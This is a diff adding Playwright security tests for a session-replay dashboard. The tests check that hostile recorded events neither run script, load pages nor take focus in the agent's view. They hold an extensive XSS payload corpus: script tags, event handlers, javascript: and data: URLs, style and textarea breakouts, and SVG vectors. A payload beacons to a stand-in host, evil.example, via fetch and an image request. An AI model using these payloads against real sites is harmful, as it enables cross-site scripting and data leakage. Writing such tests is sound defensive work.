@@ -1,0 +1,243 @@
+import { createVisitorApi } from "@parley/api-client";
+import { Client, pushed } from "../apps/server/test/clients.ts";
+import { Desk } from "./desk.ts";
+import { expect, test } from "./parley.ts";
+
+/** Whoever pretends to be a recorder can send anything. An agent who watches it sees it, and that is all. */
+
+const RAN = "top.ran=1;parent.ran=1;ran=1;fetch('http://evil.example/ran');new Image().src='http://evil.example/ran'";
+const PAGE = `<script>${RAN}</script>`;
+
+interface Node {
+  type: number;
+  tagName?: string;
+  attributes?: object;
+  childNodes?: Node[];
+  [more: string]: unknown;
+}
+
+const element = (tagName: string, attributes: object = {}, childNodes: Node[] = [], more: object = {}): Node => ({
+  type: 2,
+  tagName,
+  attributes,
+  childNodes,
+  ...more,
+});
+const words = (textContent: string, more: object = {}): Node => ({ type: 3, textContent, ...more });
+const svg = (tagName: string, attributes: object, childNodes: Node[] = []) =>
+  element(tagName, attributes, childNodes, { isSVG: true });
+
+const handlers = [
+  "onload",
+  "onerror",
+  "onclick",
+  "onfocus",
+  "ontoggle",
+  "onanimationstart",
+  "onpointerover",
+  "onscroll",
+];
+const corpus: Node[] = [
+  element("script", {}, [words(RAN)]),
+  element("script", { src: "http://evil.example/script.js" }),
+  element("SCRIPT", {}, [words(RAN)]),
+  element("noscript", {}, [element("script", {}, [words(RAN)])]),
+  ...handlers.map((name) => element("img", { src: "x:", [name]: RAN, autofocus: true })),
+  element("details", { open: true, ontoggle: RAN }),
+  element("input", { autofocus: true, onfocus: RAN }),
+  element("video", { src: "x:", onerror: RAN, rr_mediaState: "played" }),
+  element("iframe", { src: `javascript:${RAN}` }),
+  element("iframe", { srcdoc: PAGE }),
+  element("iframe", { src: `data:text/html,${PAGE}` }),
+  element("iframe", {
+    src: "http://evil.example/frame",
+    sandbox: "allow-scripts allow-same-origin allow-top-navigation",
+  }),
+  element("iframe", { rr_src: `javascript:${RAN}` }),
+  element("object", { data: `data:text/html,${PAGE}` }),
+  element("object", { data: "http://evil.example/frame" }),
+  element("embed", { src: `javascript:${RAN}` }),
+  element("a", { href: `javascript:${RAN}`, target: "_top" }, [words("Click me")]),
+  element("form", { action: "http://evil.example/frame", target: "_top" }, [element("button", {}, [words("Send")])]),
+  element("meta", { "http-equiv": "refresh", content: "0;url=http://evil.example/frame" }),
+  element("meta", { "http-equiv": "Content-Security-Policy", content: "script-src *" }),
+  element("base", { href: "http://evil.example/", target: "_top" }),
+  element("link", { rel: "import", href: "http://evil.example/frame" }),
+  element("link", { rel: "stylesheet", _cssText: `</style><script>${RAN}</script>` }),
+  element("style", { _cssText: `</style>${PAGE} a { background: url("javascript:${RAN}") }` }, [
+    words("", { isStyle: true }),
+  ]),
+  element("textarea", { value: `</textarea>${PAGE}` }),
+  element("template", {}, [words(PAGE)]),
+  element("title", {}, [words(`</title>${PAGE}`)]),
+  element("canvas", { rr_dataURL: `javascript:${RAN}` }),
+  element("img", { rr_dataURL: `javascript:${RAN}`, srcset: `javascript:${RAN}` }),
+  element("x-evil", { onclick: RAN }, [element("script", {}, [words(RAN)])], { isCustom: true, isShadowHost: true }),
+  element("portal", { src: "http://evil.example/frame" }),
+  element("frameset", { onload: RAN }, [element("frame", { src: `javascript:${RAN}` })]),
+  svg("svg", { onload: RAN }, [
+    svg("script", { "xlink:href": "http://evil.example/script.js" }),
+    svg("script", {}, [words(RAN)]),
+    svg("a", { "xlink:href": `javascript:${RAN}` }, [svg("text", {}, [words("x")])]),
+    svg("animate", { attributeName: "href", values: `javascript:${RAN}`, onbegin: RAN }),
+    svg("foreignObject", {}, [element("iframe", { srcdoc: PAGE })]),
+    svg("use", { href: `data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>${PAGE}</svg>#x` }),
+  ]),
+  { type: 5, textContent: `-->${PAGE}` },
+];
+
+const nonsense = [
+  { type: 2, data: { node: { type: 0, id: 1, childNodes: [{ type: 4, id: 2, textContent: `]]>${PAGE}` }] } } },
+  {},
+  { type: "2", data: null },
+  { type: 2, data: {} },
+  { type: 2, data: { node: null } },
+  { type: 3, data: { source: 0, adds: [{ parentId: 99_999, node: null }], removes: null } },
+  { type: 3, data: { source: 999, id: "x" } },
+  { type: 3, data: { source: 1, positions: [{ x: "a", y: {}, id: -1, timeOffset: "no" }] } },
+  {
+    type: 3,
+    data: { source: 9, id: 1, type: 0, commands: [{ property: "constructor", args: ["alert(1)"], setter: false }] },
+  },
+  { type: 3, data: { source: 8, id: 1, adds: [{ rule: `</style>${PAGE}`, index: 1e9 }] } },
+  { type: 4, data: { href: `javascript:${RAN}`, width: "1e9", height: -1 } },
+  { type: 5, data: { tag: "x", payload: PAGE } },
+  { type: 6, data: { plugin: "__proto__", payload: PAGE } },
+  { type: 99 },
+];
+
+test("nothing that a visit contains runs, loads a page, or reaches the dashboard", async ({
+  register,
+  browser,
+  baseURL,
+  parley,
+}) => {
+  const desk = await register("Company");
+  // One of its own, because what the policy of the player refuses is said there.
+  await using machine = await browser.newContext({ baseURL: baseURL! });
+  const { page } = await Desk.logIn(await machine.newPage(), desk.credentials);
+  const account_id = await desk.accountId();
+  const visitors = createVisitorApi({ baseUrl: parley.url });
+  const { id } = await visitors.beginRecording({ account_id, metadata: { pathname: PAGE, browser: PAGE } });
+  const attacker = new Client(parley.url, {});
+  const { channel } = await attacker.join(`events:${account_id}:${id}`);
+  const asked: string[] = [];
+  await page.route("http://evil.example/**", (route) => {
+    asked.push(`${route.request().resourceType()} ${route.request().url()}`);
+    return route.fulfill({ body: PAGE, contentType: "text/html" });
+  });
+  page.on("dialog", (dialog) => asked.push(dialog.message()));
+  page.on("popup", (popup) => asked.push(popup.url()));
+
+  await page.goto("/sessions/list");
+  await expect(page.getByRole("row", { name: /Anonymous User/ })).toContainText("<script>");
+  await page.getByRole("table").getByRole("link").click();
+  const player = page.frameLocator('iframe[title="The visitor\'s page"]');
+  await expect(player.locator("#player")).toBeAttached();
+  await attacker.next("presence_diff");
+
+  let number = 10;
+  const numbered = (node: Node): Node => ({
+    ...node,
+    id: ++number,
+    ...(node.childNodes && { childNodes: node.childNodes.map(numbered) }),
+  });
+  const picture = (id: string, hostile: Node[]) => ({
+    node: {
+      type: 0,
+      id: 1,
+      childNodes: [
+        { type: 1, name: "html", publicId: "", systemId: "", id: 2 },
+        {
+          ...element("html", { onload: RAN }, [
+            { ...element("head", {}, hostile.filter(({ tagName }) => tagName === "meta").map(numbered)), id: 4 },
+            {
+              ...element("body", { onload: RAN, onpageshow: RAN }, [
+                ...hostile.map(numbered),
+                numbered(element("p", { id }, [words("Seen")])),
+              ]),
+              id: 5,
+            },
+          ]),
+          id: 3,
+        },
+      ],
+    },
+    initialOffset: { left: 0, top: 0 },
+  });
+  const emit = (event: object) =>
+    pushed(channel, "replay:event:emitted", { event: { timestamp: Date.now(), ...event }, customer_id: null });
+
+  for (const event of nonsense) await emit(event);
+  await page.waitForTimeout(500);
+  await emit({ type: 4, data: { href: "http://evil.example/", width: 800, height: 600 } });
+  await emit({ type: 2, data: picture("first", corpus) });
+  const inner = player.frameLocator("iframe").first();
+  await expect(inner.locator("#first")).toHaveText("Seen");
+
+  for (const node of corpus) {
+    await emit({
+      type: 3,
+      data: {
+        source: 0,
+        texts: [],
+        attributes: [],
+        removes: [],
+        adds: [{ parentId: 5, nextId: null, node: numbered(node) }],
+      },
+    });
+  }
+  const target = number + 1;
+  const adds = [{ parentId: 5, nextId: null, node: { ...element("img", { id: "target" }), id: target } }];
+  await emit({ type: 3, data: { source: 0, texts: [], attributes: [], removes: [], adds } });
+  const attributes = { src: "x:", ...Object.fromEntries(handlers.map((name) => [name, RAN])) };
+  await emit({
+    type: 3,
+    data: { source: 0, texts: [], removes: [], adds: [], attributes: [{ id: target, attributes }] },
+  });
+  for (const event of nonsense) await emit(event);
+  await page.waitForTimeout(1500);
+  await emit({ type: 4, data: { href: "http://evil.example/", width: 800, height: 600 } });
+  await emit({ type: 2, data: picture("second", []) });
+  await expect(inner.locator("#second")).toHaveText("Seen");
+
+  expect(await page.evaluate("window.ran")).toBeUndefined();
+  for (const frame of page.frames().filter((each) => each.url().includes("/sessions/player")))
+    expect(await frame.evaluate("window.ran")).toBeUndefined();
+  expect(page.url()).toContain(`/sessions/live/${id}`);
+  expect(
+    asked.filter((each) => /ran$|^document|^script|^fetch|^xhr|^other/.test(each) || !each.includes("evil")),
+  ).toEqual([]);
+  await expect(page.getByRole("status").filter({ hasText: "Active" })).toBeVisible();
+});
+
+test("nothing in a visit can be clicked or reached by keyboard", async ({ register, parley }) => {
+  const desk = await register("Company");
+  const { page } = desk;
+  const account_id = await desk.accountId();
+  const { id } = await createVisitorApi({ baseUrl: parley.url }).beginRecording({ account_id });
+  const attacker = new Client(parley.url, {});
+  const { channel } = await attacker.join(`events:${account_id}:${id}`);
+  await page.goto(`/sessions/live/${id}`);
+  await attacker.next("presence_diff");
+  const link = { ...element("a", { href: "http://evil.example/", id: "link" }, []), id: 6 };
+  const body = { ...element("body", {}, [link]), id: 5 };
+  const node = {
+    type: 0,
+    id: 1,
+    childNodes: [{ ...element("html", {}, [{ ...element("head"), id: 4 }, body]), id: 3 }],
+  };
+  await pushed(channel, "replay:event:emitted", {
+    event: { type: 4, timestamp: 1, data: { width: 800, height: 600 } },
+  });
+  await pushed(channel, "replay:event:emitted", {
+    event: { type: 2, timestamp: 2, data: { node, initialOffset: {} } },
+  });
+  const player = page.frameLocator('iframe[title="The visitor\'s page"]');
+  await expect(player.frameLocator("iframe").locator("#link")).toBeAttached();
+  await page.locator("body").click({ position: { x: 1, y: 1 } });
+  for (let step = 0; step < 40; step++) {
+    await page.keyboard.press("Tab");
+    expect(await page.evaluate("document.activeElement?.tagName")).not.toBe("IFRAME");
+  }
+});
